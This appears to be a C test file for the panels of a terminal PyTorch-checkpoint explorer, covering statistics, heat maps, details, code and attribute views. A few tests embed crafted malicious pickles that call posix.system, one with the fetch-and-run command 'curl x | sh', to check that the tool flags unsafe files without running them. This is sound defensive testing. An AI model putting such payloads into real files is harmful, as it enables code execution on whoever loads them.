/* Whole panels as text. */
#include "explorer/panels.h"

#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "base/base.h"
#include "base/test.h"
#include "explorer/alarms_in.h"
#include "explorer/code_in.h"
#include "explorer/panels_in.h"
#include "facts/sheet.h"
#include "model/build.h"
#include "rows/sample_rows.h"
#include "run/kept.h"
#include "run/sample_run.h"
#include "session/sample_session.h"
#include "text/width.h"

#define CIFARNET "../shared/models/pytorch-ml/CNN_cifarnet.ckpt"

struct scene {
    struct session *session;
    struct explorer explorer;
    struct buf text;
};

static void scene_begin(struct scene *s, struct session *session)
{
    *s = (struct scene){.session = session};
    CHECK(session);
    CHECK(explorer_begin(&s->explorer, session, NULL, false, NULL) == 0);
}

static void scene_end(struct scene *s)
{
    buf_release(&s->text);
    explorer_end(&s->explorer);
    session_close(s->session);
}

static struct session *cifarnet(void)
{
    /* Tests run in the project's folder, or one level below it. */
    const char *path = access(CIFARNET, R_OK) == 0 ? CIFARNET : "../" CIFARNET;

    if (access(path, R_OK) != 0)
        SKIP("no models to look at");
    return session_open(path, NULL, NULL);
}

static void go(struct scene *s, const char *name)
{
    browse_go(s->explorer.browse, *name ? sample_place(s->session, name) : 0);
}

/* All lines of a panel below its title, without trailing blanks. */
static const char *shown(struct scene *s, enum panel_number number, unsigned width,
                         unsigned height)
{
    const struct panel *panel = panels[number];
    struct panel_state *state = &s->explorer.panels[number];
    struct panel_room room = {.width = width, .height = height, .zoomed = width >= 110};
    struct lines lines = {0};

    buf_clear(&s->text);
    buf_text(&s->text, "── ");
    panel->subject(&s->text, &s->explorer);
    panel->lines(&lines, &s->explorer, state, &room);
    if (panel->aside) {
        struct buf aside = BUF_INIT;

        if (panel->aside(&aside, state))
            buf_printf(&s->text, " ── %s", buf_cstr(&aside));
        buf_release(&aside);
    }
    buf_char(&s->text, '\n');
    for (uint32_t i = 0; i < lines.n; i++) {
        line_plain(&s->text, &lines, i);
        while (s->text.len > 0 && s->text.at[s->text.len - 1] == ' ')
            s->text.len--;
        buf_char(&s->text, '\n');
    }
    lines_release(&lines);
    return buf_cstr(&s->text);
}

static bool act(struct scene *s, enum panel_number number, enum panel_act what)
{
    return panels[number]->act(&s->explorer, &s->explorer.panels[number], what);
}

TEST(zoomed_statistics_have_all_parts_side_by_side_as_in_the_design)
{
    struct scene s;

    scene_begin(&s, cifarnet());
    go(&s, "fc1.weight");
    CHECK_STR(
        shown(&s, PANEL_STATISTICS, 120, 19),
        "── fc1.weight  120×400 float32 ── values [0:5, 0:6] of 120×400\n"
        " count    48,000     NaN 0   +Inf 0   -Inf 0   zeros 0                      0 "
        " "
        "     1       2       3       4       5\n"
        " min      -0.544408   at [83, 225]                               0  │ -0.0413 "
        "-0.0039 -0.0560 -0.0473  0.0020 -0.0006 →\n"
        " max      0.480768   at [75, 320]                                1  │  0.1060 "
        "-0.0584 -0.0717 -0.2136 -0.1777  0.0978 →\n"
        " mean     -0.0109594                                             2  │ -0.0039 "
        " "
        "0.0847  0.0866  0.1036  0.0221 -0.0717 →\n"
        " std      0.0888067   (n-1)    L2  19.604                        3  │  0.0145 "
        "-0.0440 -0.0260 -0.0302 -0.0200 -0.0682 →\n"
        "                                                                 4  │  0.0590 "
        " "
        "0.0233  0.0745  0.0190 -0.0004 -0.0229 →\n"
        "  6185 ┤                       ▆█▆▁                                ↓  [ "
        "slices:  [80:86, 220:240:2]  [..., 0]  [83]\n"
        "       │                       ████                          ── heat map, rms "
        "of 12×8 cells, rows 0-119, columns 0-399 ─\n"
        "       │                      ▆████▃                             0 "
        "▒░░▒░▒░░░▒▒▒▓░░░░░▒▒░▒▒▒▒▒░▒▒▒▒▒▒▒░▒▒▒░░▒░░▒▒░░░░▒\n"
        "       │                     ▂██████▁                           12 "
        "░▒▒▒░░▒▒▒▒▒▒▒▒░▒▒▒▒▒▒▒▒▒▒▓▓▓▒▒▒▒▒▓▒▒▒▒▒▒▒▒▒▒▒▒▒▒▓▓\n"
        "       │                   ▁▄████████▆▃                         24 "
        "▒▓▒▓▒▒▒░░▒▒▒░░░▒▒▒▒▒▒▒▒▒▓▒▓▓▓▒░▒▒▓▒▒▒▒▒▒▒▒▒▓▒▒▒▒▒▒\n"
        "     0 ┤▁▁▁▁▁▁▁▁▁▁▁▁▁▁▂▃▄▅▇█████████████▆▄▃▂▁▁▁▁▁▁▁▁▁▁ ▁        36 "
        "▒░▒▒▒▒▒░▒▓▒▒▒░▒▒▒▒▒▒▓▒▒▓▓▒▓█▓▒░▒▒▓▒▒▒▒▒▒▓▒▒▒▒▒▒▒▒▓\n"
        "       └┴────────────────────────┴─────────────────────┴        48 "
        "▒▒▒░▒▒░░░░▒░░░░░▒▒▒░░░░░▓▒▒▒░░░░▒▒░░▒▒░░░░░░░░░░░▒\n"
        "    -0.5444                      0                 0.4808       60 "
        "░░░▒░▒░░░▒░▒▒░░▒▒░░░░░░▒░░▒▒░░░░░▒▒░░▒░░▒░░▒▒░░▒░▒\n"
        " quantiles, exact                                               72 "
        "░░▒▒▒▒░▒▒▒▒▒▒░░▒▒░░░▒░▒▒▒▓▒▒▓▒░▒░▒▒▒░▒▓▒▓░░▒▒░░░░▓\n"
        "       1%      5%     25%     50%     75%     95%     99%       84 "
        "░░▒▒▒▒▒░░▒▒▒▒░░░▒▒▒▒▒▒▒▒▒▒▒▒▒░░▒░▒▒░▓▒▒▒▒▒▒▒▒▒▒░▒░\n"
        "  -0.2662 -0.1610 -0.0542 -0.0116  0.0343  0.1380  0.2139       96 "
        "▒▒░▓▓▒▒▒▒▒▒▒▒▒▒▒▒▒▓▒▒▒▒▒▒▒▒▒▒▒░▒░░▒▒▒▒▒▒▒▒░▒▒▒▒▒▒▓\n"
        "                                                               108 "
        "░░▒▒▒▒▒░░▒▒▒▒▒░▒▒▒▒▒░░▒▒▒░▒░▓▒░▒░▒▒▒▒▒▒░▒▒▒▒▒░▒░░▓\n"
        "                                                                   ░ 0.05  ▒ "
        "0.08  ▓ 0.11  █ 0.14     NaN ×   Inf ∞\n");
    CHECK(act(&s, PANEL_STATISTICS, ACT_RIGHT));
    CHECK(strstr(shown(&s, PANEL_STATISTICS, 120, 19), "values [0:5, 6:12] of"));
    CHECK(act(&s, PANEL_STATISTICS, ACT_LEFT));
    CHECK(!act(&s, PANEL_STATISTICS, ACT_LEFT));
    scene_end(&s);
}

/* Beside the tree at 120 columns, a panel has 54, including the scroll bar. */
TEST(beside_the_tree_no_line_of_details_and_statistics_is_cut)
{
    static const enum panel_number numbers[] = {PANEL_DETAILS, PANEL_STATISTICS};

    for (int run = 0; run < 2; run++) {
        struct scene s;

        scene_begin(&s, run ? session_of_run(sample_run(2), NULL) : sample_session());
        for (uint32_t p = 0; p < s.session->model->n_places; p++)
            for (size_t i = 0; i < COUNT_OF(numbers); i++) {
                struct str rest, line;

                browse_go(s.explorer.browse, p);
                shown(&s, numbers[i], 53, 20);
                rest = buf_span(&s.text);
                str_split(&rest, '\n', &line); /* the title */
                while (str_split(&rest, '\n', &line))
                    CHECK(text_width(line) <= 53);
            }
        scene_end(&s);
    }
}

TEST(the_tensors_of_a_module_lose_their_last_numbers_before_their_names)
{
    struct scene s;

    scene_begin(&s, sample_session());
    go(&s, "a");
    CHECK(strstr(shown(&s, PANEL_STATISTICS, 60, 20),
                 " tensor                min        max       mean        std\n"));
    CHECK(strstr(shown(&s, PANEL_STATISTICS, 52, 20),
                 " tensor         min        max       mean        std\n"));
    CHECK(strstr(shown(&s, PANEL_STATISTICS, 48, 20),
                 " tensor                min        max       mean\n"));
    scene_end(&s);
}

TEST(details_keep_the_end_of_a_long_name_without_blanks)
{
    struct sample sample;
    struct scene s;

    sample_begin(&sample, "net.pth");
    sample_module(&sample, 0, "a", "some.package.with.a.long.name.of.its.own.Net", "");
    sample_finish(&sample);
    scene_begin(&s, sample.session);
    go(&s, "a");
    CHECK(strstr(shown(&s, PANEL_DETAILS, 40, 20),
                 " class      ….a.long.name.of.its.own.Net\n"));
    buf_release(&s.text);
    explorer_end(&s.explorer);
    sample_release(&sample);
}

TEST(in_a_small_panel_the_parts_of_statistics_come_one_at_a_time)
{
    struct panel_state *state;
    struct scene s;

    scene_begin(&s, sample_session());
    state = &s.explorer.panels[PANEL_STATISTICS];
    go(&s, "a.weight");
    CHECK(strstr(shown(&s, PANEL_STATISTICS, 60, 9), " mean     1.5\n"));
    CHECK(act(&s, PANEL_STATISTICS, ACT_VIEW));
    CHECK_STR(shown(&s, PANEL_STATISTICS, 60, 9),
              "── a.weight  2×3 float32\n"
              " values [0:2, 0:3] of 2×3\n"
              "               0       1       2\n"
              "    0  │  1.0000  2.0000  3.0000\n"
              "    1  │  4.0000  5.0000 -6.0000\n"
              "         [ slices:  [80:86, 220:240:2]  [..., 0]  [83]\n");
    CHECK(act(&s, PANEL_STATISTICS, ACT_VIEW));
    CHECK_STR(shown(&s, PANEL_STATISTICS, 60, 9),
              "── a.weight  2×3 float32\n"
              " heat map, single values, rows 0-1, columns 0-2\n"
              "    0 ░▒▒\n"
              "    1 ▓▓█\n"
              "      ░ 0  ▒ 2  ▓ 4  █ 6     NaN ×   Inf ∞\n");
    CHECK(act(&s, PANEL_STATISTICS, ACT_VIEW));
    CHECK_INT(state->view, 0);
    strcpy(state->slice, "1");
    CHECK(strstr(shown(&s, PANEL_STATISTICS, 60, 9),
                 "    1  │  4.0000  5.0000 -6.0000\n"));
    scene_end(&s);
}

TEST(statistics_of_a_module_cover_its_own_tensors_or_give_a_reason)
{
    struct scene s;

    scene_begin(&s, sample_session());
    go(&s, "a");
    CHECK_STR(shown(&s, PANEL_STATISTICS, 70, 9),
              "── a\n"
              " tensor                min        max       mean        std\n"
              " weight                 -6          5        1.5      3.937\n"
              " bias                    0          0          0             NaN 1\n");
    go(&s, "lost");
    CHECK_STR(shown(&s, PANEL_STATISTICS, 70, 9),
              "── lost  4 float32\n its data is missing\n");
    go(&s, "=x\n");
    CHECK(strstr(shown(&s, PANEL_STATISTICS, 70, 9), "a plain value"));
    scene_end(&s);
}

TEST(a_contact_sheet_shows_channels_in_one_scale)
{
    static float values[2 * 6 * 4 * 4];
    static int64_t dims[8] = {2, 6, 4, 4, 96, 16, 4, 1};
    struct run_kept kept = {.bytes = sizeof values, .at = values};
    struct run_value value = {.dtype = DTYPE_FLOAT32, .rank = 4, .numel = 192};
    struct run run = {.dims = dims, .values = &value, .kept = &kept, .n_kept = 1};
    struct kept_view view;
    struct lines lines = {0};
    struct buf text = BUF_INIT;
    struct sheet sheet;
    struct arena arena;

    for (int i = 0; i < 192; i++)
        values[i] = (float)(i / 16 % 6) * (i % 4 < 2 ? 1 : 0.5f);
    arena_init(&arena, 0);
    CHECK(kept_view_init(&view, &run, 0, NULL) == 0);
    CHECK(sheet_fits(&view.tensor, tensor_shape(&view.model, &view.tensor)));
    CHECK(sheet_make(&sheet, &view.model, &view.tensor, 1, 2, 2, &arena, NULL, NULL) ==
          0);
    CHECK_INT(sheet.channels, 6);
    sheet_lines(&lines, &sheet, 1, 10, 6);
    for (uint32_t i = 0; i < lines.n; i++) {
        line_plain(&text, &lines, i);
        buf_char(&text, '\n');
    }
    CHECK_STR(buf_cstr(&text), " 1  2  3\n ░░ ▒░ ▒░\n ░░ ▒░ ▒░\n"
                               " ░ 0  ▒ 2  ▓ 4  █ 6     NaN ×   Inf ∞\n");
    lines_release(&lines);
    buf_release(&text);
    arena_release(&arena);
}

/* A session of a pickle in a temporary file. */
static struct session *pickled(const char *name, const char *pickle, size_t n)
{
    struct session *session;
    FILE *file = fopen(name, "wb");

    CHECK(file);
    CHECK(fwrite(pickle, 1, n, file) == n);
    CHECK(fclose(file) == 0);
    session = session_open(name, NULL, NULL);
    unlink(name);
    return session;
}

#define UNSAFE_NAME "/tmp/unsafe_panels_test.pkl"

TEST(details_of_an_unsafe_file_begin_with_what_a_load_would_run)
{
    static const char pickle[] =
        "\x80\x02}q\0(U\x05"
        "epochK\x0cU\x04"
        "bestcposix\nsystem\nU\x0b"
        "curl x | sh\x85RU\x01rccollections\nOrderedDict\n)Ru.";
    struct scene s;

    scene_begin(&s, pickled(UNSAFE_NAME, pickle, sizeof pickle - 1));
    CHECK_STR(
        shown(&s, PANEL_DETAILS, 80, 20),
        "── unsafe_panels_test.pkl\n"
        " ✗ UNSAFE  a plain torch.load() would run a program. torchoscope ran "
        "nothing.\n"
        "   call    posix.system(\"curl x | sh\")\n"
        "   where   unsafe_panels_test.pkl  byte 21 GLOBAL  byte 49 REDUCE\n"
        " globals   ✗ posix.system                  1 use   runs a shell command\n"
        "           ✓ collections.OrderedDict       1 use   builds a dictionary\n"
        " format    pickle (protocol 2), 82B\n"
        " holds     a dict with 3 keys: 0 tensors\n");
    CHECK(explorer_next_alarm(&s.explorer));
    CHECK_INT(explorer_place(&s.explorer), sample_place(s.session, "best"));
    CHECK_STR(buf_cstr(&s.explorer.message),
              "✗ a load would run posix.system   1 of 1");
    CHECK(strstr(shown(&s, PANEL_DETAILS, 80, 20),
                 "── safety of unsafe_panels_test.pkl\n"));
    CHECK(strstr(shown(&s, PANEL_DETAILS, 80, 20), "byte 49 REDUCE"));
    scene_end(&s);
}

TEST(dangerous_globals_come_before_ten_thousand_unknown_classes)
{
    struct buf pickle = BUF_INIT;
    struct scene s;
    uint32_t last;

    buf_add(&pickle, "\x80\x02}(", 4);
    for (int i = 0; i < 10001; i++)
        buf_printf(&pickle, "V%d\ncmine\nBlock\n)R", i);
    buf_text(&pickle, "Vlast\ncposix\nsystem\nVls\n\x85Ru.");
    scene_begin(&s, pickled(UNSAFE_NAME, pickle.at, pickle.len));
    CHECK(explorer_next_alarm(&s.explorer));
    CHECK_INT(explorer_place(&s.explorer), sample_place(s.session, "last"));
    CHECK_STR(buf_cstr(&s.explorer.message),
              "✗ a load would run posix.system   1 of 10000");
    CHECK(explorer_next_alarm(&s.explorer));
    CHECK_STR(buf_cstr(&s.explorer.message),
              "! needs the code of mine.Block   2 of 10000");
    last = sample_place(s.session, "last");
    CHECK_INT(alarms_at(&s.explorer.alarms, last, last + 1)->severity, SEVERITY_ALARM);
    CHECK_INT(alarms_at(&s.explorer.alarms, 7, last + 1)->place, 7);
    CHECK_INT(alarms_at(&s.explorer.alarms, 7, 8)->severity, SEVERITY_WARNING);
    CHECK(!alarms_at(&s.explorer.alarms, last - 1, last)); /* too many before it */
    CHECK(!alarms_at(&s.explorer.alarms, last + 1, last + 2));
    scene_end(&s);
    buf_release(&pickle);
}

TEST(a_hundred_places_of_a_tensor_are_listed_and_the_rest_counted)
{
    struct scene s;
    struct sample sample;
    uint32_t tensor, place;
    const char *text;
    char name[16];

    sample_begin(&sample, "tied.pth");
    tensor = sample_tensor(&sample, 0, "first", "2 3");
    for (int i = 0; i < 1300; i++) {
        snprintf(name, sizeof name, "w%d", i);
        place = build_node(&sample.build, 0, PLACE_TENSOR, str_of(name));
        build_tensor_again(&sample.build, place, tensor);
    }
    sample_finish(&sample);
    scene_begin(&s, sample.session);
    go(&s, "first");
    text = shown(&s, PANEL_DETAILS, 60, 200);
    CHECK(strstr(text, "            also w99\n            … 1,200 more\n"));
    go(&s, "w500");
    text = shown(&s, PANEL_DETAILS, 60, 200);
    CHECK(strstr(text, " tied       to first\n            also w0\n"));
    CHECK(strstr(text, "            also w98\n            … 1,200 more\n"));
    explorer_end(&s.explorer);
    buf_release(&s.text);
    sample_release(&sample);
}

TEST(details_of_a_module_and_its_tensors_show_the_target_of_enter)
{
    struct panel_state *state;
    struct scene s;

    scene_begin(&s, sample_session());
    state = &s.explorer.panels[PANEL_DETAILS];
    go(&s, "a");
    CHECK_STR(shown(&s, PANEL_DETAILS, 60, 20),
              "── a\n"
              " Linear  8 params  32B\n"
              " class      torch.nn.modules.linear.Linear\n"
              " holds      2 tensors\n"
              " trained    6 of 8 trainable\n"
              "   ⇄ weight  2×3 float32  tied: also b.weight\n"
              "   ▪ bias  2 float32                            2         8B\n");
    CHECK(
        strstr(shown(&s, PANEL_DETAILS, 70, 20),
               "   ⇄ weight  2×3 float32  tied: also b.weight        6        24B\n"
               "   ▪ bias  2 float32                                 2         8B\n"));
    state->cursor = 5;
    CHECK(act(&s, PANEL_DETAILS, ACT_ENTER));
    CHECK_INT(explorer_place(&s.explorer), sample_place(s.session, "a.bias"));
    go(&s, "b.weight");
    CHECK_STR(shown(&s, PANEL_DETAILS, 60, 20),
              "── b.weight\n"
              " shape      2×3   6 values   24B\n"
              " dtype      float32\n"
              " values     not measured; 4 measures them\n"
              " role       parameter, requires grad\n"
              " strides    [3, 1]  offset 0  storage 0, 24B\n"
              " saved from cpu\n"
              " tied       to a.weight\n");
    state->cursor = 6;
    CHECK(act(&s, PANEL_DETAILS, ACT_ENTER));
    CHECK_INT(explorer_place(&s.explorer), sample_place(s.session, "a.weight"));
    state->cursor = 0;
    CHECK(!act(&s, PANEL_DETAILS, ACT_ENTER));
    scene_end(&s);
}

TEST(a_recording_that_raised_opens_at_the_module_that_raised)
{
    struct scene s;

    scene_begin(&s, session_of_run(sample_run(1), NULL));
    CHECK(s.explorer.panels[PANEL_DETAILS].open);
    CHECK_INT(explorer_place(&s.explorer), sample_place(s.session, "a"));
    CHECK(strstr(shown(&s, PANEL_DETAILS, 60, 20), "── a\n"
                                                   " ✗ raised   ValueError: no\n"
                                                   "   weight   expects …×3\n"
                                                   " Linear  8 params  32B\n"));
    go(&s, "tail");
    CHECK(strstr(shown(&s, PANEL_DETAILS, 60, 20),
                 " not reached: an exception came first\n"));
    go(&s, "");
    CHECK(
        strstr(shown(&s, PANEL_DETAILS, 60, 20), " ✗ alarm   a raised ValueError: no"));
    scene_end(&s);
}

/* ---- code ---- */

static const char block_source[] = "class Block(nn.Module):\n"
                                   "    \"\"\"One\n"
                                   "    block.\"\"\"\n"
                                   "    def forward(self, x, mask=None):\n"
                                   "        out = self.conv(x)  # first\n"
                                   "\n"
                                   "        if self.down is not None:\n"
                                   "            x = self.down(x)\n"
                                   "        out += x\n"
                                   "        return self.relu(out)\n";

/* The calls of the block; with `one_line`, all on one line with results of two shapes. */
static void mark_calls(struct code_mark *marks, struct code *code, struct arena *arena,
                       bool one_line)
{
    static int64_t dims[] = {1, 3, 8, 8, /* */ 1, 16, 8, 8};
    static struct run_value values[] = {
        {.rank = 4, .stats = RUN_NONE, .shape = 0}, /* x */
        {.rank = 4, .stats = RUN_NONE, .shape = 4}, /* of conv */
        {.rank = 4, .stats = RUN_NONE, .shape = 4}, /* of down */
        {.rank = 4, .stats = RUN_NONE, .shape = 4}, /* the sum */
        {.rank = 4, .stats = RUN_NONE, .shape = 4}, /* of relu */
    };
    static struct run_io ios[] = {
        {.call = 0, .kind = RUN_IN, .value = 0},
        {.call = 1, .kind = RUN_IN, .value = 0},
        {.call = 1, .kind = RUN_OUT, .value = 1},
        {.call = 2, .kind = RUN_IN, .value = 0},
        {.call = 2, .kind = RUN_OUT, .value = 2},
        {.call = 3, .kind = RUN_IN, .value = 3},
        {.call = 3, .kind = RUN_OUT, .value = 4},
    };
    static struct run_call calls[] = {
        {.parent = RUN_NONE, .ios = 0, .n_ios = 1, .start_ns = 0, .end_ns = 100},
        {.parent = 0, .ios = 1, .n_ios = 2, .start_ns = 10},
        {.parent = 0, .ios = 3, .n_ios = 2, .start_ns = 20},
        {.parent = 0, .ios = 5, .n_ios = 2, .start_ns = 30},
    };
    static struct run run;
    struct session session = {.run = &run};
    struct show show = {.session = &session};

    run = (struct run){.calls = calls,
                       .n_calls = 4,
                       .ios = ios,
                       .n_ios = 7,
                       .values = values,
                       .n_values = 5,
                       .dims = dims,
                       .n_dims = 8};
    CHECK(intern_init(&run.strings, arena) == 0);
    ios[0].path = ios[1].path = ios[3].path = ios[5].path =
        intern_add(&run.strings, STR("[0]"));
    calls[1].line = intern_add(&run.strings, STR("net.py:14"));
    calls[2].line = intern_add(&run.strings, STR("net.py:17"));
    calls[3].line = intern_add(&run.strings, STR("net.py:19"));
    values[2].shape = values[4].shape = one_line ? 0 : 4;
    if (one_line)
        calls[2].line = calls[3].line = calls[1].line;
    *code = (struct code){.file = STR("/home/net.py"), .first = 10};
    CHECK(code_split(code, str_of(block_source), arena) == 0);
    CHECK_INT(code->n, 10);
    CHECK_INT(code->forward, 3);
    CHECK(code_marks(marks, code, &show, 0, arena) == 0);
}

TEST(shapes_are_shown_beside_the_lines_that_made_them)
{
    static const char *const expected[] = {NULL,       NULL,      NULL,    "x 1×3×8×8",
                                           "1×16×8×8", NULL,      "taken", "1×16×8×8",
                                           "1×16×8×8", "1×16×8×8"};
    struct code_mark marks[13] = {{0}};
    struct code code;
    struct arena arena;

    arena_init(&arena, 0);
    mark_calls(marks, &code, &arena, false);
    for (int i = 0; i < 10; i++)
        CHECK_STR(marks[i].text, expected[i]);
    CHECK(marks[3].input && !marks[4].input);
    arena_release(&arena);
}

TEST(shapes_that_varied_on_a_line_stay_marked)
{
    struct code_mark marks[13] = {{0}};
    struct code code;
    struct arena arena;

    arena_init(&arena, 0);
    mark_calls(marks, &code, &arena, true);
    CHECK_STR(marks[4].text, "1×3×8×8*"); /* 16 channels, then 3, then 3 again */
    arena_release(&arena);
}

TEST(keywords_strings_and_comments_have_colours_and_long_lines_are_cut)
{
    struct lines lines = {0};
    struct buf text = BUF_INIT;
    char quote = '\0';

    code_spans(&lines, STR("if x == 'a\\'b':  # why"), 80, &quote);
    lines_end(&lines);
    CHECK_INT(lines.spans[0].colour, COLOUR_TYPE);
    CHECK_INT(lines.spans[lines.n_spans - 1].colour, COLOUR_DIM);
    code_spans(&lines, STR("\"\"\"begins"), 80, &quote);
    CHECK_INT(quote, '"');
    code_spans(&lines, STR("if it ends\"\"\" + name"), 12, &quote);
    CHECK_INT(quote, '\0');
    lines_end(&lines);
    line_plain(&text, &lines, 1);
    CHECK_STR(buf_cstr(&text), "\"\"\"beginsif it ends\"…");
    buf_release(&text);
    lines_release(&lines);
}

TEST(a_class_without_source_shows_the_known_facts)
{
    struct scene s;

    scene_begin(&s, sample_session());
    go(&s, "a.weight");
    CHECK_STR(shown(&s, PANEL_CODE, 60, 9), "── Linear\n"
                                            " no source: not in this file\n"
                                            " class torch.nn.modules.linear.Linear\n");
    go(&s, "b");
    CHECK(strstr(shown(&s, PANEL_CODE, 60, 9), " no source: not in a state_dict"));
    scene_end(&s);
}

/* ---- attributes ---- */

TEST(attributes_of_a_file_fold_and_unfold)
{
    struct panel_state *state;
    struct scene s;

    scene_begin(&s, session_of_run(sample_run(1), NULL));
    state = &s.explorer.panels[PANEL_ATTRIBUTES];
    go(&s, "a");
    CHECK_STR(shown(&s, PANEL_ATTRIBUTES, 40, 12), "── model.a\n"
                                                   " ▾ Linear\n"
                                                   " ├   size: (3, -3)\n"
                                                   " ├   eps: 1e-05\n"
                                                   " ├   bias: True\n"
                                                   " ├   odd: … (too deep)\n"
                                                   " └   training: True\n");
    state->cursor = 2;
    CHECK(!act(&s, PANEL_ATTRIBUTES, ACT_ENTER));
    CHECK(act(&s, PANEL_ATTRIBUTES, ACT_LEFT));
    CHECK_INT(state->cursor, 0);
    CHECK(act(&s, PANEL_ATTRIBUTES, ACT_RIGHT));
    CHECK_INT(state->cursor, 1);
    scene_end(&s);
}

TEST(long_lists_in_attributes_unfold_in_pages)
{
    static const char begin[] = "\x80\x02}U\x01l](";
    struct buf pickle = BUF_INIT;
    struct panel_state *state;
    struct scene s;

    buf_add(&pickle, begin, sizeof begin - 1);
    for (int i = 0; i < 120; i++)
        buf_add(&pickle, "K\x07", 2);
    buf_add(&pickle, "es.", 3);
    scene_begin(&s, pickled("/tmp/list_panels_test.pkl", pickle.at, pickle.len));
    state = &s.explorer.panels[PANEL_ATTRIBUTES];
    go(&s, "l");
    shown(&s, PANEL_ATTRIBUTES, 40, 12);
    CHECK(strstr(s.text.at, " ├   49: 7\n └   … 70 more\n"));
    state->cursor = 51;
    CHECK(act(&s, PANEL_ATTRIBUTES, ACT_ENTER));
    shown(&s, PANEL_ATTRIBUTES, 40, 12);
    CHECK(strstr(s.text.at, " ├   99: 7\n └   … 20 more\n"));
    scene_end(&s);
    buf_release(&pickle);
}

TEST(non_finite_values_found_later_become_alarms)
{
    struct scene s;

    scene_begin(&s, sample_session());
    CHECK(!explorer_next_alarm(&s.explorer));
    CHECK_STR(buf_cstr(&s.explorer.message),
              "no findings   values: not measured; :stats measures all (40B); "
              "1 tensor without readable values");
    explorer_measure(&s.explorer, NO_TENSOR);
    CHECK(explorer_next_alarm(&s.explorer));
    CHECK_STR(buf_cstr(&s.explorer.message), "✗ a.bias has NaN 1   1 of 1");
    CHECK_INT(explorer_place(&s.explorer), sample_place(s.session, "a.bias"));
    scene_end(&s);
}

TEST(screen_reader_mode_draws_no_pictures)
{
    struct scene s;

    scene_begin(&s, sample_session());
    s.explorer.plain = true;
    go(&s, "a.weight");
    CHECK_STR(shown(&s, PANEL_STATISTICS, 120, 30),
              "── a.weight  2×3 float32\n"
              " count    6     NaN 0   +Inf 0   -Inf 0   zeros 0\n"
              " min      -6   at [1, 2]\n"
              " max      5   at [1, 1]\n"
              " mean     1.5\n"
              " std      3.937   (n-1)    L2  9.53939\n"
              " quantile 1%, exact: -5.6500\n"
              " quantile 5%, exact: -4.2500\n"
              " quantile 25%, exact: 1.2500\n"
              " quantile 50%, exact: 2.5000\n"
              " quantile 75%, exact: 3.7500\n"
              " quantile 95%, exact: 4.7500\n"
              " quantile 99%, exact: 4.9500\n");
    CHECK(act(&s, PANEL_STATISTICS, ACT_VIEW));
    CHECK(strstr(shown(&s, PANEL_STATISTICS, 120, 30), "values [0:2, 0:3] of 2×3"));
    CHECK(act(&s, PANEL_STATISTICS, ACT_VIEW));
    CHECK_INT(s.explorer.panels[PANEL_STATISTICS].view, 0);
    scene_end(&s);
}

/* ---- large tensors ---- */

static int no_bytes(struct source *source, uint32_t storage, uint64_t at, void *to,
                    size_t n, struct err *err)
{
    (void)source, (void)storage, (void)at;
    (void)err;
    memset(to, 0, n);
    return 0;
}

static void no_close(struct source *source)
{
    (void)source;
}

static const struct source_ops no_ops = {.bytes = no_bytes, .close = no_close};
static struct source no_source = {.ops = &no_ops, .any_thread = true};

TEST(tensors_above_64_megabytes_are_read_only_on_request)
{
    static const int64_t shape[] = {17, 1 << 20};
    struct storage storage = {.bytes = 17 * 4 << 20};
    struct tensor tensor = {.dtype = DTYPE_FLOAT32, .class_id = NO_CLASS};
    const struct numbers *numbers;
    struct build b;
    struct scene s;
    const struct model *model;
    const char *why;

    CHECK(build_init(&b, "large.pth", 0, NULL, NULL) == 0);
    b.model->format = "sample";
    b.model->source = &no_source;
    tensor.storage = build_storage(&b, &storage);
    build_tensor(&b, build_node(&b, 0, PLACE_TENSOR, STR("w")), &tensor, shape, NULL,
                 2);
    model = build_finish(&b, NULL);
    CHECK(model);
    build_release(&b);
    scene_begin(&s, session_of(model, NULL));
    go(&s, "w");
    CHECK_STR(shown(&s, PANEL_STATISTICS, 60, 9),
              "── w  17×1048576 float32\n"
              " too large to measure automatically (68.0MB); press 4\n");
    CHECK(!explorer_numbers(&s.explorer, 0, &why));
    explorer_measure_row(&s.explorer);
    numbers = explorer_numbers(&s.explorer, 0, &why);
    CHECK(numbers && !why);
    CHECK_INT(numbers->stats->zeros, 17 << 20);
    scene_end(&s);
}
